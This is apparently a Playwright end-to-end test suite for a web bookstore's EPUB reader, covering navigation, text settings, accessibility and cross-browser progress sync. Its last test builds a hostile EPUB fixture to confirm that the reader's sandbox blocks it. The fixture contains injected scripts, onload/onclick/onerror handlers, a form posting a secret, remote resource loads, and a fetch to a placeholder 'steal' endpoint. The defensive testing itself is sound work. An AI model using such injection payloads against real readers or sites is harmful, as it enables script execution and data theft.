import { readFileSync } from 'node:fs';
import AxeBuilder from '@axe-core/playwright';
import { expect, test, type APIRequestContext, type Page } from '@playwright/test';
import { E2E_PORT } from '../playwright.config';
import { buildEpub } from '../support/epub';
import { createEpubBook, type EpubBook } from '../support/epub-books';
import { loginByApi, registerMember } from '../support/session';
import { token } from './public-fixtures';

const SHOTS = process.env.READER_SHOTS_DIR;
const BASE = `http://127.0.0.1:${E2E_PORT}`;

/** Six short chapters made by calibre (see fixtures/epub/README.md). */
const KEEPER = readFileSync(new URL('../fixtures/epub/keeper-of-the-light.epub', import.meta.url));

/** A free book with an EPUB (and a PDF when given). */
const createFreeEpubBook = (request: APIRequestContext, title: string, epub: Buffer, withPdf = false) =>
  createEpubBook(request, { title, epub, price: '0', cover: [40, 90, 140], withPdf });

let keeper: EpubBook;

test.beforeAll(async ({ playwright }) => {
  const request = await playwright.request.newContext({ baseURL: BASE });
  keeper = await createFreeEpubBook(request, `The Keeper ${token()}`, KEEPER, true);
  await request.dispose();
});

test.describe.configure({ timeout: 180_000 });

const view = (page: Page) => page.getByTestId('epub-view');
const text = (page: Page) => page.frameLocator('[data-testid="epub-view"] iframe').locator('body');

async function opened(page: Page) {
  await expect(view(page)).toHaveAttribute('data-ready', 'true', { timeout: 60_000 });
  await expect(view(page)).toHaveAttribute('data-locator', /^epubcfi\(/);
}

/** Waits until the place shown is no longer `before`, and returns it. */
async function movedFrom(page: Page, before: string | null): Promise<string> {
  await expect(view(page)).not.toHaveAttribute('data-locator', before ?? '');
  return (await view(page).getAttribute('data-locator')) ?? '';
}

test('reads an EPUB by keyboard, with its contents, font size and theme @phone', async ({ page }) => {
  await page.goto(`/#/book/${keeper._id}`);
  await page.getByRole('link', { name: `Read ${keeper.title}` }).click();
  await expect(page).toHaveURL(new RegExp(`#/read/${keeper._id}$`));
  await opened(page);
  await expect(text(page)).toContainText('Chapter 1: The Harbour');
  // The book has a PDF too: a link switches to it.
  await expect(page.getByRole('link', { name: 'Read the PDF' })).toBeVisible();

  const first = await view(page).getAttribute('data-locator');
  await page.keyboard.press('ArrowRight');
  const second = await movedFrom(page, first);
  await page.keyboard.press('PageDown');
  await movedFrom(page, second);
  await page.keyboard.press('PageUp');
  await expect(view(page)).toHaveAttribute('data-locator', second);
  await page.keyboard.press('End');
  await expect(text(page)).toContainText('Chapter 6: Home Again');
  await expect(page.getByRole('button', { name: 'Next page' })).toBeDisabled();
  await page.keyboard.press('Home');
  await expect(text(page)).toContainText('Chapter 1: The Harbour');
  await expect(page.getByRole('button', { name: 'Previous page' })).toBeDisabled();

  await page.getByRole('button', { name: 'Contents' }).click();
  await page
    .getByRole('navigation', { name: 'Table of contents' })
    .getByRole('button', { name: /Chapter 3/ })
    .click();
  await expect(text(page)).toContainText('Chapter 3: A Letter from the City');

  await page.getByRole('button', { name: 'Text settings', exact: true }).click();
  await page.getByRole('button', { name: 'Larger text' }).click();
  await expect(page.getByTestId('epub-font-size')).toHaveText('115%');
  await expect(text(page)).toHaveAttribute('style', /font-size: 115%/);
  await page.getByRole('button', { name: 'Dark' }).click();
  await expect(page.getByRole('button', { name: 'Dark' })).toHaveAttribute('aria-pressed', 'true');
  await expect(text(page)).toHaveCSS('background-color', 'rgb(28, 25, 23)');
  await expect(text(page)).toHaveCSS('color', 'rgb(231, 229, 228)');
  await page.getByRole('button', { name: 'Sepia' }).click();
  await expect(text(page)).toHaveCSS('background-color', 'rgb(244, 236, 216)');
  if (SHOTS) await page.screenshot({ path: `${SHOTS}/epub-${test.info().project.name}.png` });
  // The reader's own controls (the book's frame is the book's; its text is checked above).
  const axe = await new AxeBuilder({ page })
    .withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'])
    .exclude('[data-testid="epub-view"] iframe')
    .analyze();
  const serious = axe.violations.filter((found) => found.impact === 'serious' || found.impact === 'critical');
  expect(serious.map((found) => `${found.id}: ${found.nodes.map((node) => node.target.join(' ')).join(', ')}`)).toEqual(
    [],
  );

  // The settings and a visitor's place are kept in this browser.
  const place = await view(page).getAttribute('data-locator');
  await page.reload();
  await opened(page);
  await expect(view(page)).toHaveAttribute('data-locator', place ?? '');
  await expect(page.getByRole('button', { name: 'Text settings', exact: true })).toBeVisible();
  await page.getByRole('button', { name: 'Text settings', exact: true }).click();
  await expect(page.getByTestId('epub-font-size')).toHaveText('115%');
  await expect(page.getByRole('button', { name: 'Sepia' })).toHaveAttribute('aria-pressed', 'true');
});

test('a member continues an EPUB on a second browser at the same place', async ({ browser }) => {
  const first = await browser.newContext();
  const firstPage = await first.newPage();
  const member = await registerMember(firstPage.request, 'Elin Reader');
  await loginByApi(firstPage, member.email, member.password);
  await firstPage.goto(`/#/read/${keeper._id}`);
  await opened(firstPage);
  const opening = await view(firstPage).getAttribute('data-locator');
  await firstPage.getByRole('button', { name: 'Contents' }).click();
  await firstPage.getByRole('button', { name: /Chapter 4/ }).click();
  await expect(text(firstPage)).toContainText('Chapter 4: The Storm');
  // The chapter's text shows before epub.js reports the place: wait until the place is in another
  // spine item than the opening one (the part of a CFI before "!") before taking it as the chapter's.
  const item = (cfi: string | null) => (cfi ?? '').split('!')[0];
  await expect.poll(async () => item(await view(firstPage).getAttribute('data-locator'))).not.toBe(item(opening));
  const atChapter = await view(firstPage).getAttribute('data-locator');
  const saved = firstPage.waitForResponse((response) => {
    if (!response.url().endsWith(`/api/books/${keeper._id}/progress`) || response.request().method() !== 'PUT') {
      return false;
    }
    const body = response.request().postDataJSON() as { format?: string; locator?: string };
    return body.format === 'epub' && body.locator !== atChapter;
  });
  await firstPage.keyboard.press('ArrowRight');
  const place = await movedFrom(firstPage, atChapter);
  const response = await saved;
  expect(response.status()).toBe(200);
  const sent = response.request().postDataJSON() as { locator: string; percentage: number };
  expect(sent.locator).toBe(place);
  expect(sent.percentage).toBeGreaterThan(0.3);
  expect(sent.percentage).toBeLessThan(0.9);
  await first.close();

  const second = await browser.newContext();
  const secondPage = await second.newPage();
  await loginByApi(secondPage, member.email, member.password);
  await secondPage.goto(`/#/read/${keeper._id}`);
  await opened(secondPage);
  await expect(view(secondPage)).toHaveAttribute('data-locator', place);
  await expect(text(secondPage)).toContainText('Chapter 4');

  const kept = (await (await secondPage.request.get(`/api/books/${keeper._id}/progress`)).json()) as {
    progress: { format: string; locator: string; percentage: number };
  };
  expect(kept.progress).toMatchObject({ format: 'epub', locator: place });
  await secondPage.goto('/#/user-dashboard/my-library');
  const row = secondPage.getByTestId('continue-reading-book').filter({ hasText: keeper.title });
  // The share read: from the chapters until the book is counted, then exact (either may be kept here).
  await expect(row.getByTestId('reading-progress')).toHaveText(/^\d+% read$/);
  const shown = Number((await row.getByTestId('reading-progress').textContent())?.replace('% read', ''));
  expect(shown).toBeGreaterThan(30);
  expect(shown).toBeLessThan(90);
  await row.getByRole('link', { name: `Continue reading ${keeper.title}` }).click();
  await opened(secondPage);
  await expect(view(secondPage)).toHaveAttribute('data-locator', place);
  await second.close();
});

test('a hostile EPUB is shown with none of its scripts, handlers, forms or remote files acting', async ({
  page,
  playwright,
}) => {
  const epub = await buildEpub('Hostile', 'Mallory', [
    {
      title: 'A harmless start',
      head: `<script>console.log('HACKED head'); parent.document.title = 'HACKED';</script>
<link rel="stylesheet" href="https://css.example.com/remote.css"/>
<style>@import url("https://css.example.com/import.css"); body { background-image: url("https://bg.example.com/bg.png"); }</style>`,
      bodyAttributes: `onload="console.log('HACKED onload'); window.top.hacked = 'onload'"`,
      body: `<p id="safe-text">Read this safely.</p>
<script>console.log('HACKED body'); window.top.hacked = 'body'; fetch('https://api.example.com/steal');</script>
<p><img src="https://images.example.com/pixel.png" alt="A remote picture" onerror="console.log('HACKED onerror')"/></p>
<p id="clicker" onclick="console.log('HACKED click'); window.top.hacked = 'click'">Click this paragraph.</p>
<form action="https://forms.example.com/collect" method="post"><p><input name="q" value="secret"/><button type="submit">Send</button></p></form>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"><image xlink:href="https://svg.example.com/x.png" width="10" height="10"/></svg>
<iframe src="https://frame.example.com/"></iframe>
<p><a href="https://link.example.com/">A link out</a></p>`,
    },
    { title: 'The second chapter', body: '<p>Nothing to see here.</p>' },
  ]);
  const request = await playwright.request.newContext({ baseURL: BASE });
  const hostile = await createFreeEpubBook(request, `Hostile ${token()}`, epub);
  await request.dispose();

  const elsewhere: string[] = [];
  const console: string[] = [];
  page.on('request', (sent) => {
    if (!/^(blob:|data:|about:)/.test(sent.url()) && !sent.url().startsWith(BASE)) elsewhere.push(sent.url());
  });
  page.on('console', (message) => console.push(message.text()));
  page.on('popup', (popup) => elsewhere.push(popup.url()));

  await page.goto(`/#/read/${hostile._id}`);
  await opened(page);
  const frame = page.locator('[data-testid="epub-view"] iframe');
  await expect(frame).toHaveAttribute('sandbox', 'allow-same-origin');
  await expect(text(page).locator('#safe-text')).toHaveText('Read this safely.');
  await text(page).locator('#clicker').click();
  await text(page).getByText('A link out').click();
  await expect(text(page).getByRole('button', { name: 'Send' })).toBeDisabled();
  await page.keyboard.press('ArrowRight');
  await expect(text(page)).toContainText('The second chapter');

  expect(await page.evaluate(() => (window as unknown as { hacked?: string }).hacked)).toBeUndefined();
  await expect(page).toHaveTitle(/^Hostile/);
  expect(console.filter((line) => line.includes('HACKED'))).toEqual([]);
  expect(elsewhere).toEqual([]);
});
